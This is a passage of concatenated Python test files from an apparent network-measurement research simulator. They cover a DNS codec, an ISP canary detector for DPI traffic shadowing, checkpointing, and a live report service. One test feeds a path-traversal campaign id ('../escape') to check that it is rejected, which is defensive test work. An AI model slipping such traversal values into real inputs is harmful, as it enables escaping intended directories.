        a, b, c, d = partition_feed(serial, 4)
        left = AnalysisState.merged([a, b]).merge(
            AnalysisState.merged([c, d]))
        right = AnalysisState.merged([a]).merge(b).merge(c).merge(d)
        assert left.digest() == right.digest() == serial.analysis.digest()

    def test_partition_count_invariant(self, runs):
        serial, _ = runs[SEEDS[0]]
        reference = serial.analysis.digest()
        for parts in (1, 2, 3, 5):
            merged = AnalysisState.merged(partition_feed(serial, parts))
            assert merged.digest() == reference

    def test_merged_state_renders_identically(self, runs):
        serial, _ = runs[SEEDS[0]]
        merged = AnalysisState.merged(partition_feed(serial, 3))
        assert full_report_from_state(merged) == full_report(serial)

    def test_mismatched_multi_use_window_rejected(self):
        left = AnalysisState()
        right = AnalysisState()
        right.multi_use.after = 2 * HOUR
        with pytest.raises(AccumulatorMergeError):
            left.merge(right)


class TestSnapshotRoundTrip:
    def test_snapshot_is_canonical_json(self, runs):
        serial, _ = runs[SEEDS[0]]
        snapshot = serial.analysis.snapshot()
        wire = json.dumps(snapshot, sort_keys=True)
        assert json.loads(wire) == json.loads(wire)  # stable encoding
        restored = AnalysisState.from_snapshot(json.loads(wire))
        assert restored.digest() == serial.analysis.digest()

    def test_restored_state_renders_identically(self, runs):
        serial, _ = runs[SEEDS[0]]
        restored = AnalysisState.from_snapshot(serial.analysis.snapshot())
        assert full_report_from_state(restored) == full_report(serial)

    def test_restored_state_cannot_observe(self, runs):
        serial, _ = runs[SEEDS[0]]
        restored = AnalysisState.from_snapshot(serial.analysis.snapshot())
        with pytest.raises(RuntimeError):
            restored.observe_event(serial.phase1.events[0])

    def test_unknown_format_rejected(self):
        snapshot = AnalysisState().snapshot()
        snapshot["format"] = 999
        with pytest.raises(ValueError):
            AnalysisState.from_snapshot(snapshot)

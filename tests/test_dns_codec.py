"""Tests for the DNS wire codec: names, header, records, full messages."""

import pytest

from repro.net.errors import PacketDecodeError
from repro.protocols.dns import (
    DnsHeader,
    DnsMessage,
    DnsNameError,
    DnsQuestion,
    QTYPE,
    RCODE,
    ResourceRecord,
    decode_name,
    encode_name,
    is_subdomain_of,
    make_query,
    make_response,
    normalize_name,
)
from repro.protocols.dns.message import FLAG_AA, FLAG_QR


class TestNames:
    def test_roundtrip_simple(self):
        wire = encode_name("www.example.com")
        name, offset = decode_name(wire, 0)
        assert name == "www.example.com"
        assert offset == len(wire)

    def test_normalization_lowercases_and_strips_dot(self):
        assert normalize_name("WWW.Example.COM.") == "www.example.com"

    def test_root_name(self):
        assert encode_name("") == b"\x00"
        name, offset = decode_name(b"\x00", 0)
        assert name == ""
        assert offset == 1

    def test_rejects_oversized_label(self):
        with pytest.raises(DnsNameError):
            encode_name("a" * 64 + ".example.com")

    def test_accepts_63_byte_label(self):
        encode_name("a" * 63 + ".example.com")

    def test_rejects_oversized_name(self):
        long_name = ".".join(["a" * 60] * 5)
        with pytest.raises(DnsNameError):
            encode_name(long_name)

    def test_rejects_empty_label(self):
        with pytest.raises(DnsNameError):
            encode_name("a..b")

    def test_decode_rejects_truncation(self):
        wire = encode_name("www.example.com")
        with pytest.raises(DnsNameError):
            decode_name(wire[:-3], 0)

    def test_decode_follows_compression_pointer(self):
        target = encode_name("example.com")
        message = target + b"\x03www" + b"\xc0\x00"  # www + pointer to offset 0
        name, offset = decode_name(message, len(target))
        assert name == "www.example.com"
        assert offset == len(message)

    def test_decode_rejects_forward_pointer(self):
        message = b"\xc0\x05" + b"\x00" * 10
        with pytest.raises(DnsNameError):
            decode_name(message, 0)

    def test_is_subdomain_of(self):
        assert is_subdomain_of("a.b.example.com", "example.com")
        assert is_subdomain_of("example.com", "example.com")
        assert not is_subdomain_of("notexample.com", "example.com")
        assert not is_subdomain_of("example.com.evil.org", "example.com")


class TestHeader:
    def test_roundtrip(self):
        header = DnsHeader(txid=0x1234, flags=FLAG_QR | FLAG_AA, qdcount=1, ancount=2)
        assert DnsHeader.decode(header.encode()) == header

    def test_rejects_bad_txid(self):
        with pytest.raises(ValueError):
            DnsHeader(txid=70000)

    def test_flag_properties(self):
        header = DnsHeader(txid=1, flags=FLAG_QR | int(RCODE.NXDOMAIN))
        assert header.is_response
        assert header.rcode is RCODE.NXDOMAIN

    def test_decode_rejects_short_buffer(self):
        with pytest.raises(PacketDecodeError):
            DnsHeader.decode(b"\x00\x01")


class TestMessages:
    def test_query_roundtrip(self):
        query = make_query("g6d8jjkut5obc4-9982.www.experiment.domain", txid=7)
        decoded = DnsMessage.decode(query.encode())
        assert decoded.qname == "g6d8jjkut5obc4-9982.www.experiment.domain"
        assert decoded.header.txid == 7
        assert decoded.header.recursion_desired
        assert not decoded.header.is_response

    def test_response_roundtrip_with_a_record(self):
        query = make_query("www.experiment.domain", txid=9)
        answer = ResourceRecord(name="www.experiment.domain", rtype=QTYPE.A,
                                ttl=3600, rdata="203.0.113.10")
        response = make_response(query, answers=(answer,), authoritative=True)
        decoded = DnsMessage.decode(response.encode())
        assert decoded.header.is_response
        assert decoded.header.rcode is RCODE.NOERROR
        assert decoded.answers[0].rdata == "203.0.113.10"
        assert decoded.answers[0].ttl == 3600

    def test_response_preserves_txid(self):
        query = make_query("x.example.com", txid=0xBEEF)
        response = make_response(query)
        assert DnsMessage.decode(response.encode()).header.txid == 0xBEEF

    def test_nxdomain_response(self):
        query = make_query("missing.example.com", txid=3)
        response = make_response(query, rcode=RCODE.NXDOMAIN)
        assert DnsMessage.decode(response.encode()).header.rcode is RCODE.NXDOMAIN

    def test_compression_shrinks_repeated_names(self):
        query = make_query("very-long-label-for-compression.example.com", txid=1)
        answer = ResourceRecord(name="very-long-label-for-compression.example.com",
                                rtype=QTYPE.A, ttl=60, rdata="1.2.3.4")
        response = make_response(query, answers=(answer,))
        encoded = response.encode()
        # The answer's name must be a 2-byte pointer, not a re-encoding.
        assert len(encoded) < len(query.encode()) + 2 + 10 + 4 + 20
        assert DnsMessage.decode(encoded).answers[0].name == query.qname

    def test_txt_record_roundtrip(self):
        query = make_query("t.example.com", txid=2, qtype=QTYPE.TXT)
        answer = ResourceRecord(name="t.example.com", rtype=QTYPE.TXT,
                                ttl=60, rdata="experiment contact: see homepage")
        decoded = DnsMessage.decode(make_response(query, answers=(answer,)).encode())
        assert decoded.answers[0].rdata == "experiment contact: see homepage"

    def test_cname_and_ns_records_roundtrip(self):
        query = make_query("alias.example.com", txid=2)
        records = (
            ResourceRecord(name="alias.example.com", rtype=QTYPE.CNAME,
                           ttl=30, rdata="real.example.com"),
            ResourceRecord(name="real.example.com", rtype=QTYPE.NS,
                           ttl=30, rdata="ns1.example.com"),
        )
        decoded = DnsMessage.decode(make_response(query, answers=records).encode())
        assert decoded.answers[0].rdata == "real.example.com"
        assert decoded.answers[1].rdata == "ns1.example.com"

    def test_soa_record_roundtrip(self):
        query = make_query("example.com", txid=2, qtype=QTYPE.SOA)
        soa = ResourceRecord(name="example.com", rtype=QTYPE.SOA, ttl=300,
                             rdata="ns1.example.com admin.example.com 2024030101 7200 3600 1209600 300")
        decoded = DnsMessage.decode(make_response(query, answers=(soa,)).encode())
        assert decoded.answers[0].rdata.split()[2] == "2024030101"

    def test_record_rejects_negative_ttl(self):
        with pytest.raises(ValueError):
            ResourceRecord(name="x.com", rtype=QTYPE.A, ttl=-1, rdata="1.2.3.4")

    def test_make_response_requires_question(self):
        empty = DnsMessage(header=DnsHeader(txid=1))
        with pytest.raises(ValueError):
            make_response(empty)

    def test_decode_rejects_truncated_question(self):
        query = make_query("www.example.com", txid=5).encode()
        with pytest.raises(PacketDecodeError):
            DnsMessage.decode(query[:-2])

    def test_qname_none_for_empty_message(self):
        assert DnsMessage(header=DnsHeader(txid=1)).qname is None


class TestSuffixCompression:
    def test_sibling_names_share_suffix_pointer(self):
        """a.example.com then b.example.com: the second name emits one
        label plus a pointer into the first."""
        query = make_query("a.example.com", txid=1)
        answers = (
            ResourceRecord(name="a.example.com", rtype=QTYPE.CNAME,
                           ttl=60, rdata="b.example.com"),
        )
        response = make_response(query, answers=answers)
        encoded = response.encode()
        decoded = DnsMessage.decode(encoded)
        assert decoded.answers[0].rdata == "b.example.com"
        # "example.com" must appear exactly once in the wire bytes.
        assert encoded.count(b"\x07example\x03com") == 1

    def test_deep_names_compress_progressively(self):
        names = [
            "x.deep.zone.example.com",
            "y.deep.zone.example.com",
            "z.zone.example.com",
        ]
        query = make_query(names[0], txid=2)
        answers = tuple(
            ResourceRecord(name=name, rtype=QTYPE.A, ttl=60, rdata="1.2.3.4")
            for name in names
        )
        response = make_response(query, answers=answers)
        decoded = DnsMessage.decode(response.encode())
        assert [record.name for record in decoded.answers] == names
        assert response.encode().count(b"\x04zone\x07example\x03com") == 1

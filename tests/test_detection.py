"""Tests for the ISP-side canary detector."""

import random

import pytest

from repro.core.config import ExperimentConfig
from repro.core.ecosystem import build_ecosystem
from repro.detection import IspCanaryDetector
from repro.net.path import Hop
from repro.simkit.units import DAY


@pytest.fixture()
def eco():
    config = ExperimentConfig.tiny(seed=262626)
    config.interceptors_enabled = False
    return build_ecosystem(config)


def make_detector(eco, canaries=2):
    return IspCanaryDetector(
        sim=eco.sim,
        deployment=eco.deployment,
        observer_deployment=eco.observer_deployment,
        source_address="100.96.200.1",
        rng=random.Random(5),
        canaries_per_router=canaries,
    )


def chinanet_routers(eco, count=24):
    return [eco.topology.router_hop(4134, index, "CN") for index in range(count)]


def clean_routers(eco, count=8):
    return [eco.topology.router_hop(64_512, index, "US") for index in range(count)]


class TestCanaryDetector:
    def test_flags_routers_with_dpi(self, eco):
        routers = chinanet_routers(eco)
        detector = make_detector(eco)
        detector.sweep(routers)
        eco.sim.run(until=eco.sim.now() + 20 * DAY)
        report = detector.report(4134, routers)
        # The deployment places DPI on a fraction of AS4134 routers; the
        # sweep must find at least one and must not flag everything.
        dpi_routers = {
            hop.address for hop in routers
            if eco.observer_deployment.sniffer_for(hop) is not None
        }
        assert dpi_routers, "fixture expects some DPI in AS4134"
        flagged = {verdict.router_address for verdict in report.flagged}
        assert flagged, "sweep found no shadowing devices"
        # No false positives: every flagged router really hosts DPI.
        assert flagged <= dpi_routers

    def test_clean_network_reports_clean(self, eco):
        routers = clean_routers(eco)
        detector = make_detector(eco)
        detector.sweep(routers)
        eco.sim.run(until=eco.sim.now() + 20 * DAY)
        report = detector.report(64_512, routers)
        assert report.flagged == []
        assert len(report.clean) == len(routers)

    def test_verdicts_cover_every_router(self, eco):
        routers = chinanet_routers(eco, count=6)
        detector = make_detector(eco)
        detector.sweep(routers)
        eco.sim.run(until=eco.sim.now() + 20 * DAY)
        report = detector.report(4134, routers)
        assert len(report.verdicts) == 6
        per_router = detector.canaries_per_router * len(detector.protocols)
        assert all(verdict.canaries_sent == per_router
                   for verdict in report.verdicts)

    def test_leaked_protocols_match_dpi_capabilities(self, eco):
        routers = chinanet_routers(eco)
        detector = make_detector(eco, canaries=3)
        detector.sweep(routers)
        eco.sim.run(until=eco.sim.now() + 20 * DAY)
        report = detector.report(4134, routers)
        for verdict in report.flagged:
            hop = next(r for r in routers if r.address == verdict.router_address)
            sniffer = eco.observer_deployment.sniffer_for(hop)
            # A DPI box can only leak protocols it parses (canary decoy
            # protocols map tls->tls; unsolicited protocol may differ but
            # the *leaked canary* was captured over a parsed protocol).
            for protocol in verdict.leaked_protocols:
                assert protocol in sniffer.protocols

    def test_requires_positive_canary_count(self, eco):
        with pytest.raises(ValueError):
            make_detector(eco, canaries=0)

"""Streaming planner equivalence and columnar-store round-trips.

The streaming Phase I planner (the default) must be byte-for-byte
indistinguishable from the classic materialized planner — same digests,
serial and sharded — and the columnar ledger/log must round-trip through
the wire codec and the checkpoint store exactly like their object-per-row
predecessors did.
"""

import os
import random

import pytest

from repro.core.campaign import PLANNER_ENV
from repro.core.checkpoint import CheckpointStore
from repro.core.config import ExperimentConfig
from repro.core.correlate import DecoyLedger
from repro.core.experiment import Experiment
from repro.core.shard import result_digest
from repro.core.wire import (
    ShardPhase1Payload,
    decode_phase1_payload,
    encode_phase1_payload,
)
from repro.honeypot.logstore import LoggedRequest, LogStore

SEEDS = (101, 202, 303)


def _run_digest(seed: int, planner: str, workers: int = 1) -> str:
    """One tiny experiment's result digest under the given planner."""
    saved = os.environ.get(PLANNER_ENV)
    os.environ[PLANNER_ENV] = planner
    try:
        config = ExperimentConfig.tiny(seed=seed)
        config.workers = workers
        return result_digest(Experiment(config).run())
    finally:
        if saved is None:
            del os.environ[PLANNER_ENV]
        else:
            os.environ[PLANNER_ENV] = saved


class TestPlannerEquivalence:
    """Streaming == materialized, pinned across seeds and worker counts."""

    @pytest.mark.parametrize("seed", SEEDS)
    def test_serial_digests_identical(self, seed):
        assert (_run_digest(seed, "streaming")
                == _run_digest(seed, "materialized"))

    def test_two_worker_digests_identical(self):
        seed = SEEDS[0]
        streaming = _run_digest(seed, "streaming", workers=2)
        materialized = _run_digest(seed, "materialized", workers=2)
        assert streaming == materialized
        # And sharding itself is planner-neutral.
        assert streaming == _run_digest(seed, "streaming")


def _ledger_with_keys(rng, count=40):
    from repro.core.identifier import DecoyIdentity
    from repro.core.correlate import DecoyRecord

    ledger = DecoyLedger()
    payload_records = []
    for index in range(count):
        domain = f"d{index:04d}.www.experiment.domain"
        record = DecoyRecord(
            identity=DecoyIdentity(
                sent_at=rng.randint(0, 0xFFFFFFFF),
                vp_address=f"100.96.0.{index % 250 + 1}",
                dst_address=f"198.51.100.{index % 250 + 1}",
                ttl=64,
                sequence=index,
            ),
            domain=domain,
            protocol=rng.choice(("dns", "http", "tls")),
            vp_id=f"vp-{index % 7:02d}",
            vp_country=rng.choice(("US", "DE", "JP")),
            vp_province=rng.choice((None, "CA")),
            destination_address=f"203.0.113.{index % 250 + 1}",
            destination_name="resolver.example",
            destination_kind=rng.choice(("dns", "web")),
            destination_country=rng.choice(("US", "CN")),
            instance_country=rng.choice(("US", "NL")),
            path_length=rng.randint(2, 20),
            sent_at=float(index),
            phase=1,
            delivered=rng.random() < 0.9,
            round_index=index % 3,
        )
        key = (float(index), 1, index % 5, 0)
        ledger.register(record)
        ledger.set_key(domain, key)
        payload_records.append((key, record))
    return ledger, payload_records


def _log_with_entries(rng, count=60):
    log = LogStore()
    clock = 0.0
    for index in range(count):
        clock += rng.uniform(0.0, 5.0)
        protocol = rng.choice(("dns", "http", "https"))
        log.append(LoggedRequest(
            time=clock,
            site=rng.choice(("US", "DE")),
            protocol=protocol,
            src_address=f"192.0.2.{index % 250 + 1}",
            domain=f"d{index % 20:04d}.www.experiment.domain",
            path=None if protocol == "dns" else "/",
            qtype=1 if protocol == "dns" else None,
            user_agent="curl/8.0" if protocol == "http" else None,
        ))
    return log


class TestColumnarRoundTrip:
    """Columnar ledger/log state survives the wire codec and the
    checkpoint store byte-for-byte."""

    def _payload(self, rng):
        ledger, payload_records = _ledger_with_keys(rng)
        log = _log_with_entries(rng)
        return ledger, log, ShardPhase1Payload(
            shard_index=0,
            records=payload_records,
            log_entries=list(log),
            sends_planned=1000,
            sends_scheduled=250,
            last_send_time=999.5,
            virtual_now=1200.0,
            vetting_kept=80,
            vetting_removed_ttl=3,
            vetting_removed_intercepted=2,
            wall_seconds=1.25,
        )

    def test_wire_round_trip_preserves_columnar_rows(self):
        rng = random.Random(4242)
        ledger, log, payload = self._payload(rng)
        decoded = decode_phase1_payload(encode_phase1_payload(payload))
        assert decoded.records == payload.records
        assert decoded.log_entries == payload.log_entries
        # Rebuilding columnar stores from the decoded rows reproduces
        # every index-backed view of the originals.
        rebuilt = DecoyLedger()
        for key, record in decoded.records:
            rebuilt.register(record)
            rebuilt.set_key(record.domain, key)
        assert list(rebuilt.records()) == list(ledger.records())
        assert [rebuilt.key_of(r.domain) for r in rebuilt.records()] == \
            [ledger.key_of(r.domain) for r in ledger.records()]
        rebuilt_log = LogStore()
        for entry in decoded.log_entries:
            rebuilt_log.append(entry)
        assert rebuilt_log.all() == log.all()
        assert rebuilt_log.domains() == log.domains()

    def test_checkpoint_round_trip(self, tmp_path):
        rng = random.Random(777)
        _ledger, _log, payload = self._payload(rng)
        store = CheckpointStore(tmp_path / "ckpt")
        store.save_phase1_blob(0, encode_phase1_payload(payload))
        loaded = store.load_phase1(0)
        assert loaded.records == payload.records
        assert loaded.log_entries == payload.log_entries
        assert loaded.sends_planned == payload.sends_planned
        assert loaded.last_send_time == payload.last_send_time

    def test_materialized_rows_keep_identity_while_referenced(self):
        """The weak-value cache contract: a row reads back as the *same*
        object while any strong reference lives."""
        rng = random.Random(11)
        ledger, _records = _ledger_with_keys(rng, count=5)
        first = ledger.records()[0]
        assert ledger.lookup(first.domain) is first
        log = _log_with_entries(rng, count=5)
        held = log.all()
        assert log.between(0.0, 1e9)[0] is held[0]


class TestMergedLogStoreIndexes:
    """Satellite: merged() must rebuild every maintained index so
    windowed/filtered queries match a serially-built store exactly."""

    def _shards(self):
        rng = random.Random(909)
        shards = []
        for shard in range(3):
            clock, entries = 0.0, []
            for index in range(25):
                clock += rng.uniform(0.0, 4.0)
                protocol = ("dns", "http", "https")[index % 3]
                entries.append(LoggedRequest(
                    time=clock,
                    site="US",
                    protocol=protocol,
                    src_address=f"192.0.2.{shard + 1}",
                    domain=f"d{index % 6}.www.experiment.domain",
                    path=None if protocol == "dns" else "/",
                    qtype=1 if protocol == "dns" else None,
                ))
            shards.append(entries)
        return shards

    def _serial_equivalent(self, shards):
        """Append the merged order by hand into a fresh store."""
        flat = sorted(
            ((entry.time, position, index), entry)
            for position, entries in enumerate(shards)
            for index, entry in enumerate(entries)
        )
        store = LogStore()
        for _, entry in flat:
            store.append(entry)
        return store

    def test_between_tail_by_protocol_match_serial(self):
        shards = self._shards()
        merged = LogStore.merged(shards)
        serial = self._serial_equivalent(shards)
        assert merged.all() == serial.all()
        times = [entry.time for entry in serial]
        mid, late = times[len(times) // 3], times[2 * len(times) // 3]
        assert merged.between(mid, late) == serial.between(mid, late)
        assert merged.between(0.0, mid) == serial.between(0.0, mid)
        entries, cursor = merged.tail(0)
        serial_entries, serial_cursor = serial.tail(0)
        assert (entries, cursor) == (serial_entries, serial_cursor)
        half = cursor // 2
        assert merged.tail(half) == serial.tail(half)
        for protocol in ("dns", "http", "https"):
            assert merged.by_protocol(protocol) == serial.by_protocol(protocol)
        for domain in serial.domains():
            assert merged.for_domain(domain) == serial.for_domain(domain)
            assert (merged.first_occurrence(domain)
                    == serial.first_occurrence(domain))

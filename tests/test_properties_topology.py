"""Property-based tests on topology, scheduling, and parser invariants."""

import random

from hypothesis import given, settings, strategies as st

from repro.protocols.http import make_get
from repro.protocols.http.incremental import HttpRequestParser
from repro.simkit.rng import RandomRouter
from repro.topology.model import Endpoint, TopologyConfig, TopologyModel

countries = st.sampled_from(["US", "DE", "CN", "JP", "SG", "BR", "CA", "RU"])
octets = st.integers(0, 255)


@st.composite
def endpoints(draw, base):
    third = draw(octets)
    fourth = draw(octets)
    asn = draw(st.integers(1, 2**31))
    country = draw(countries)
    return Endpoint(address=f"{base}.{third}.{fourth}", asn=asn, country=country)


class TestTopologyProperties:
    @given(endpoints("100.96"), endpoints("198.18"), st.integers(0, 2**31))
    @settings(max_examples=60, deadline=None)
    def test_path_structural_invariants(self, vp, destination, seed):
        model = TopologyModel(RandomRouter(seed))
        path = model.build_path(vp, destination)
        # Ends at the destination, exactly one destination hop.
        assert path.destination.address == destination.address
        assert sum(1 for hop in path.hops if hop.is_destination) == 1
        # Bounded length given the default segment ranges.
        assert 3 <= path.length <= 12
        # Intermediate hops live in the router fabric (CGNAT space).
        for hop in path.hops[:-1]:
            assert hop.address.startswith("100.")

    @given(endpoints("100.96"), endpoints("198.18"), st.integers(0, 2**31))
    @settings(max_examples=40, deadline=None)
    def test_rebuild_returns_cached_path(self, vp, destination, seed):
        model = TopologyModel(RandomRouter(seed))
        assert model.build_path(vp, destination) is model.build_path(vp, destination)

    @given(endpoints("100.96"), st.lists(endpoints("198.18"), min_size=2,
                                         max_size=4, unique_by=lambda e: e.address),
           st.integers(0, 2**31))
    @settings(max_examples=30, deadline=None)
    def test_first_hop_shared_across_destinations(self, vp, destinations, seed):
        """The pair-resolver premise: one egress router per VP."""
        model = TopologyModel(RandomRouter(seed))
        first_hops = {
            model.build_path(vp, destination).hop_at(1).address
            for destination in destinations
        }
        assert len(first_hops) == 1

    @given(st.integers(1, 64), st.integers(1, 64))
    @settings(max_examples=100)
    def test_normalized_hop_bounds_and_endpoints(self, position, length):
        if position > length:
            return
        normalized = TopologyModel.normalized_hop(position, length)
        assert 1 <= normalized <= 10
        if position == length:
            assert normalized == 10
        if position == 1 and length > 1:
            assert normalized == 1


class TestIncrementalParserProperties:
    @given(st.lists(st.from_regex(r"[a-z0-9-]{1,12}(\.[a-z0-9-]{1,12}){1,3}",
                                  fullmatch=True), min_size=1, max_size=5),
           st.integers(1, 7))
    @settings(max_examples=50, deadline=None)
    def test_any_chunking_yields_same_requests(self, hosts, chunk):
        wire = b"".join(make_get(host).encode() for host in hosts)
        parser = HttpRequestParser()
        collected = []
        for start in range(0, len(wire), chunk):
            collected += parser.feed(wire[start:start + chunk])
        assert [request.host for request in collected] == hosts
        assert parser.buffered == 0

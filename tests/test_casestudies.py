"""Tests for the case-study analyses (Section 5.1)."""

import pytest

from repro.analysis.casestudies import (
    AnycastCaseStudy,
    anycast_case_study,
    yandex_case_study,
)
from repro.core.config import ExperimentConfig
from repro.core.correlate import DecoyLedger
from repro.core.experiment import Experiment
from repro.simkit.units import DAY


@pytest.fixture(scope="module")
def result():
    return Experiment(ExperimentConfig.tiny(seed=20240301)).run()


class TestYandexCaseStudy:
    def test_digest_matches_paper_shape(self, result):
        study = yandex_case_study(result.ledger, result.phase1.events)
        assert study.matches_paper_shape()
        assert study.shadowed_share > 0.9
        assert study.median_delay is not None
        assert study.median_delay > 6 * 3600  # retention measured in days
        assert 0.0 <= study.share_after_10_days <= 1.0

    def test_empty_world(self):
        study = yandex_case_study(DecoyLedger(), [])
        assert study.shadowed_share == 0.0
        assert study.median_delay is None
        assert not study.matches_paper_shape()


class TestAnycastCaseStudy:
    def test_114dns_split(self, result):
        study = anycast_case_study(result.ledger, result.phase1.events)
        assert study.destination == "114DNS"
        assert study.cn_paths > 0 and study.global_paths > 0
        assert study.matches_paper_shape()
        assert study.cn_ratio > study.global_ratio

    def test_non_anycast_destination_has_no_split(self, result):
        """Yandex is unicast: global and CN VPs are shadowed alike, so the
        anycast signature must NOT appear."""
        study = anycast_case_study(result.ledger, result.phase1.events,
                                   destination="Yandex")
        assert not study.matches_paper_shape()
        assert study.global_ratio > 0.8

    def test_ratios_for_empty_study(self):
        study = AnycastCaseStudy("X", 0, 0, 0, 0)
        assert study.cn_ratio == 0.0
        assert study.global_ratio == 0.0
        assert not study.matches_paper_shape()

"""Serve equivalence and multi-tenant contract tests.

The always-on service (:mod:`repro.serve`) promises that a live-served
report after N ingested records is *byte-identical* to batch ``repro
report`` over the same N records — including across a daemon kill and
restart-from-checkpoint.  This suite pins that contract:

* three seeds x {batch, live-fed, killed-and-restarted}: equal digests
  and byte-identical rendered reports;
* the incremental correlator emits the batch pass's exact event
  multiset, initial arrivals, and unknown domains;
* ingest for an unknown campaign raises a structured error (never a
  bare ``KeyError``), at the service layer and over both transports;
* four concurrent readers hammering ``/report`` mid-ingest always see a
  self-consistent (digest, text) pair;
* report renders are cached: repeated reads of an unchanged session are
  cache hits, the first read after an ingest is a miss.
"""

import json
import threading
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from repro.analysis.paperreport import full_report_from_state
from repro.core.config import ExperimentConfig
from repro.core.correlate import Correlator, IncrementalCorrelator
from repro.core.experiment import Experiment
from repro.core.wire import FeedBatch
from repro.serve.feed import (
    FeedClient,
    FeedError,
    FeedServer,
    feed_batches_from_result,
)
from repro.serve.httpapi import ReportApiServer
from repro.serve.service import (
    InvalidCampaignError,
    MeasurementService,
    RegistrationError,
    UnknownCampaignError,
    WatermarkPolicy,
)
from repro.serve.session import REPORT_TITLE

SEEDS = (20240301, 7, 1234)
BATCH_SIZE = 50


@pytest.fixture(scope="module")
def runs():
    """seed -> completed tiny experiment result."""
    return {seed: Experiment(ExperimentConfig.tiny(seed=seed)).run()
            for seed in SEEDS}


def _campaign(seed) -> str:
    return f"campaign-{seed}"


def _feed_all(service, result, campaign_id, batch_size=BATCH_SIZE):
    for batch in feed_batches_from_result(result, campaign_id,
                                          batch_size=batch_size):
        service.ingest(batch)


class TestLiveEqualsBatch:
    @pytest.mark.parametrize("seed", SEEDS)
    def test_live_digest_and_report_match_batch(self, runs, seed):
        result = runs[seed]
        service = MeasurementService()
        _feed_all(service, result, _campaign(seed))
        session = service.session(_campaign(seed))
        text, digest, version = session.report()
        assert digest == result.analysis.digest()
        assert text == full_report_from_state(result.analysis,
                                              title=REPORT_TITLE)
        assert version == 1

    @pytest.mark.parametrize("seed", SEEDS)
    def test_restart_from_checkpoint_matches_batch(self, runs, seed, tmp_path):
        """Kill mid-stream, restore, resend everything: the duplicate
        prefix is absorbed and the final report is byte-identical."""
        result = runs[seed]
        campaign = _campaign(seed)
        batches = list(feed_batches_from_result(result, campaign,
                                                batch_size=BATCH_SIZE))
        half = len(batches) // 2
        first = MeasurementService(
            checkpoint_dir=tmp_path,
            watermark=WatermarkPolicy(records=1, seconds=0.0))
        for batch in batches[:half]:
            first.ingest(batch)
        # No flush_all(): the "kill" relies on watermark flushes alone.

        restored = MeasurementService.restore(tmp_path)
        acks = [restored.ingest(batch) for batch in batches]
        assert not any(ack["applied"] for ack in acks[:half - 1])
        session = restored.session(campaign)
        text, digest, _ = session.report()
        assert digest == result.analysis.digest()
        assert text == full_report_from_state(result.analysis,
                                              title=REPORT_TITLE)

    def test_restore_without_state_blob_replays_from_empty(self, runs,
                                                           tmp_path):
        """Killed before the first watermark: context blob only, the
        restored session starts at seq 0 and a full resend rebuilds."""
        seed = SEEDS[0]
        result = runs[seed]
        campaign = _campaign(seed)
        batches = list(feed_batches_from_result(result, campaign,
                                                batch_size=BATCH_SIZE))
        first = MeasurementService(
            checkpoint_dir=tmp_path,
            watermark=WatermarkPolicy(records=10**9, seconds=10**9))
        first.ingest(batches[0])  # registration flushes the context blob
        first.ingest(batches[1])  # never reaches a watermark

        restored = MeasurementService.restore(tmp_path)
        assert restored.session(campaign).seq == 0
        for batch in batches:
            restored.ingest(batch)
        _, digest, _ = restored.session(campaign).report()
        assert digest == result.analysis.digest()


class TestIncrementalCorrelator:
    @pytest.mark.parametrize("seed", SEEDS)
    def test_matches_batch_correlation(self, runs, seed):
        result = runs[seed]
        batch = Correlator(result.ledger, result.config.zone).correlate(
            result.log)
        incremental = IncrementalCorrelator(
            result.ledger, result.config.zone, retain_events=True)
        for entry in result.log:
            incremental.ingest(entry)
        replayed = incremental.result()
        assert [(e.decoy.domain, e.request.time, e.combo)
                for e in replayed.events] == \
               [(e.decoy.domain, e.request.time, e.combo)
                for e in batch.events]
        assert replayed.initial_arrivals == batch.initial_arrivals
        assert replayed.unknown_domains == batch.unknown_domains
        assert incremental.event_count == len(batch.events)

    def test_state_snapshot_roundtrip_continues_identically(self, runs):
        result = runs[SEEDS[0]]
        entries = list(result.log)
        half = len(entries) // 2
        full = IncrementalCorrelator(result.ledger, result.config.zone)
        for entry in entries:
            full.ingest(entry)

        first = IncrementalCorrelator(result.ledger, result.config.zone)
        for entry in entries[:half]:
            first.ingest(entry)
        resumed = IncrementalCorrelator.from_state_snapshot(
            first.state_snapshot(), result.ledger, result.config.zone)
        for entry in entries[half:]:
            resumed.ingest(entry)
        assert resumed.state_snapshot() == full.state_snapshot()

    def test_result_requires_retained_events(self, runs):
        result = runs[SEEDS[0]]
        correlator = IncrementalCorrelator(result.ledger, result.config.zone)
        with pytest.raises(RuntimeError, match="retain_events"):
            correlator.result()


class TestMultiTenantGuard:
    def test_unknown_campaign_is_structured(self):
        service = MeasurementService()
        batch = FeedBatch(campaign_id="ghost", seq=1)
        with pytest.raises(UnknownCampaignError) as excinfo:
            service.ingest(batch)
        payload = excinfo.value.to_payload()
        assert payload["error"]["code"] == "unknown_campaign"
        assert payload["error"]["campaign"] == "ghost"
        assert payload["error"]["known"] == []

    def test_unknown_campaign_never_keyerror(self):
        service = MeasurementService()
        try:
            service.ingest(FeedBatch(campaign_id="ghost", seq=1))
        except KeyError:  # pragma: no cover - the regression being pinned
            pytest.fail("unknown campaign surfaced as a bare KeyError")
        except UnknownCampaignError:
            pass

    def test_invalid_campaign_id_rejected(self):
        service = MeasurementService()
        batch = FeedBatch(campaign_id="../escape", seq=0,
                          context={"zone": "z.example"})
        with pytest.raises(InvalidCampaignError):
            service.ingest(batch)

    def test_reregistration_same_zone_is_idempotent(self):
        service = MeasurementService()
        context = {"zone": "z.example", "directory": [], "blocklist": []}
        first = service.ingest(FeedBatch(campaign_id="c", seq=0,
                                         context=context))
        again = service.ingest(FeedBatch(campaign_id="c", seq=0,
                                         context=dict(context)))
        assert first["applied"] and not again["applied"]

    def test_reregistration_conflicting_zone_rejected(self):
        service = MeasurementService()
        service.ingest(FeedBatch(
            campaign_id="c", seq=0,
            context={"zone": "z.example", "directory": [], "blocklist": []}))
        with pytest.raises(RegistrationError):
            service.ingest(FeedBatch(
                campaign_id="c", seq=0,
                context={"zone": "other.example", "directory": [],
                         "blocklist": []}))

    def test_feed_socket_reports_unknown_campaign(self):
        service = MeasurementService()
        server = FeedServer(service)
        server.start()
        try:
            with FeedClient(port=server.port) as client:
                with pytest.raises(FeedError, match="unknown_campaign"):
                    client.send(FeedBatch(campaign_id="ghost", seq=1))
        finally:
            server.stop()

    def test_http_reports_unknown_campaign_as_404(self):
        service = MeasurementService()
        server = ReportApiServer(service)
        server.start()
        try:
            url = f"http://127.0.0.1:{server.port}/campaigns/ghost/report"
            with pytest.raises(urllib.error.HTTPError) as excinfo:
